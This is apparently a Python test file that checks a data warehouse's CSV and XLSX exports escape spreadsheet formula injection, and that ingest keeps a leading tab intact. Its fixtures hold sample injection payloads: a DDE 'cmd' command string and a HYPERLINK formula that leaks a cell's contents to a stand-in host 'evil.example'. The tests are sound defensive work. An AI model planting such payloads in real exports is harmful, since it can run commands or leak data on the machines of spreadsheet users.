"""Safe output: no export can carry a spreadsheet formula (OWASP CSV injection), and ingest
does not turn a leading tab into one."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipelines.cli import main
from tests.conftest import small_submission, write_workbook
from warehouse.safe_output import (
    FORMULA_TRIGGERS,
    csv_bytes,
    neutralise,
    neutralise_frame,
    xlsx_bytes,
)

INJECTIONS = [
    "+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1",
    "=1+1",
]
HARMLESS = ["Communication", "", "0-30", "a = b", "c", "Need for new staff", "'quoted"]


def starts_like_a_formula(text: str) -> bool:
    return text.startswith(FORMULA_TRIGGERS)


@pytest.mark.parametrize("text", INJECTIONS)
def test_neutralise_escapes_every_formula_start(text: str) -> None:
    safe = neutralise(text)
    assert safe == "'" + text
    assert not starts_like_a_formula(safe)


@pytest.mark.parametrize("text", HARMLESS)
def test_neutralise_leaves_other_text_alone(text: str) -> None:
    assert neutralise(text) == text


@given(st.text())
def test_neutralise_is_safe_lossless_and_idempotent(text: str) -> None:
    safe = neutralise(text)
    assert not starts_like_a_formula(safe)
    assert safe in (text, "'" + text)
    assert neutralise(safe) == safe


def injection_frame() -> pl.DataFrame:
    return pl.DataFrame(
        {
            "text": [*INJECTIONS, "plain", None],
            "board": pl.Series([*INJECTIONS, "plain", "x"], dtype=pl.Categorical),
            "count": list(range(len(INJECTIONS) + 2)),
            "when": [dt.date(2005, 1, 1)] * (len(INJECTIONS) + 2),
        }
    )


def test_neutralise_frame_covers_text_columns_and_names_only() -> None:
    df = injection_frame().with_columns(pl.col("count").alias("=SUM(A1)"))
    safe = neutralise_frame(df)
    assert safe["text"].to_list()[: len(INJECTIONS)] == ["'" + t for t in INJECTIONS]
    assert safe["text"][-1] is None  # nulls stay null
    assert safe["board"].to_list()[: len(INJECTIONS)] == ["'" + t for t in INJECTIONS]
    assert safe["count"].to_list() == df["count"].to_list()
    assert safe["when"].dtype == pl.Date
    assert "'=SUM(A1)" in safe.columns


def test_csv_bytes_has_no_cell_that_starts_like_a_formula() -> None:
    rows = list(csv.reader(io.StringIO(csv_bytes(injection_frame()).decode("utf-8"))))
    assert rows[0] == ["text", "board", "count", "when"]
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if starts_like_a_formula(c)]
    texts = [row[0] for row in rows[1 : len(INJECTIONS) + 1]]
    assert texts == ["'" + t for t in INJECTIONS]  # the apostrophe, and the text as typed


def formula_cells(book: openpyxl.Workbook) -> list[str]:
    return [
        f"{ws.title}!{cell.coordinate}"
        for ws in book
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
        or (isinstance(cell.value, str) and starts_like_a_formula(cell.value))
    ]


def test_xlsx_bytes_writes_text_as_text_never_a_formula() -> None:
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(injection_frame(), sheet="recs")))
    assert book.sheetnames == ["recs"]
    ws = book["recs"]
    assert formula_cells(book) == []
    assert [c.value for c in ws[1]] == ["text", "board", "count", "when"]
    # xlsxwriter stores a carriage return as the escape _x000D_ (Excel decodes it).
    texts = [
        ws.cell(row=r, column=1).value.replace("_x000D_", "\r")
        for r in range(2, len(INJECTIONS) + 2)
    ]
    assert texts == ["'" + t for t in INJECTIONS]
    assert all(ws.cell(row=r, column=1).data_type == "s" for r in range(2, len(INJECTIONS) + 2))
    assert ws.cell(row=2, column=3).value == 0 and ws.cell(row=2, column=3).data_type == "n"
    assert ws.cell(row=2, column=4).value == dt.datetime(2005, 1, 1)


def injected_submission() -> dict[str, list[dict[str, object]]]:
    sheets = small_submission()
    sheets["reviews"][0]["board_name"] = '=HYPERLINK("http://evil.example","Board")'
    sheets["reviews"][1]["board_name"] = "\t=1+1"
    texts = ["+cmd|' /C calc'!A0", "\t=1+1", "@SUM(1)"]
    for rec, text in zip(sheets["recommendations"], texts, strict=True):
        rec["text"] = text
    return sheets


def _as_typed_text(sheets: dict[str, list[dict[str, object]]]):
    """Rewrite the injected text cells as string cells, as a coder typing them would get
    (the fixture's ``write`` would store ``=...`` as a real formula)."""

    def rewrite(name: str, ws, columns: list[str]) -> None:
        for r, row in enumerate(sheets[name], start=1):
            for c, column in enumerate(columns):
                value = row.get(column)
                if isinstance(value, str) and column in ("board_name", "text"):
                    ws.write_string(r, c, value)

    return rewrite


@pytest.mark.parametrize("as_workbook", [False, True], ids=["csv-folder", "xlsx"])
def test_ingest_keeps_a_leading_tab_before_a_formula(
    warehouse_file: Path, make_submission, tmp_path: Path, as_workbook: bool
) -> None:
    """``\\t=1+1`` used to be trimmed into the formula ``=1+1`` on ingest."""
    import duckdb

    sheets = injected_submission()
    path = make_submission("inject", sheets)
    if as_workbook:
        path = write_workbook(tmp_path / "inject.xlsx", sheets, cells=_as_typed_text(sheets))
    assert main(["ingest", str(path), "--submitted-by", "=HYPERLINK(1)"]) == 0
    con = duckdb.connect(str(warehouse_file), read_only=True)
    try:
        texts = {r[0] for r in con.execute("SELECT text FROM recommendations").fetchall()}
        names = {r[0] for r in con.execute("SELECT board_name FROM reviews").fetchall()}
        codes = {r[0] for r in con.execute("SELECT focus FROM recommendations").fetchall()}
    finally:
        con.close()
    assert texts == {"+cmd|' /C calc'!A0", "\t=1+1", "@SUM(1)"}
    assert names == {'=HYPERLINK("http://evil.example","Board")', "\t=1+1"}
    assert "=1+1" not in texts | names
    assert codes == {"training", "communication"}  # codes still compared trimmed

    # Whatever the warehouse holds, an export of it carries no formula.
    con = duckdb.connect(str(warehouse_file), read_only=True)
    try:
        frame = con.sql(
            "SELECT r.board_name, c.text FROM reviews r JOIN recommendations c USING (review_id)"
        ).pl()
    finally:
        con.close()
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8"))))
    assert not [c for row in rows for c in row if starts_like_a_formula(c)]
    assert formula_cells(openpyxl.load_workbook(io.BytesIO(xlsx_bytes(frame)))) == []


def test_scr_tables_csv_and_xlsx_carry_no_formula(
    warehouse_file: Path, make_submission, tmp_path: Path, capsys
) -> None:
    assert main(["ingest", str(make_submission("inject", injected_submission()))]) == 0
    capsys.readouterr()
    for audience in ([], ["--audience", "public"]):
        assert main(["tables", "--format", "csv", *audience]) == 0
        rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
        assert len(rows) > 100
        assert not [c for row in rows for c in row if starts_like_a_formula(c)]
        out = tmp_path / f"tables{len(audience)}.xlsx"
        assert main(["tables", "--format", "xlsx", "--out", str(out), *audience]) == 0
        assert formula_cells(openpyxl.load_workbook(out)) == []
    assert main(["tables", "--board", "TST1", "--format", "xlsx", "--out", str(out)]) == 0
    assert formula_cells(openpyxl.load_workbook(out)) == []
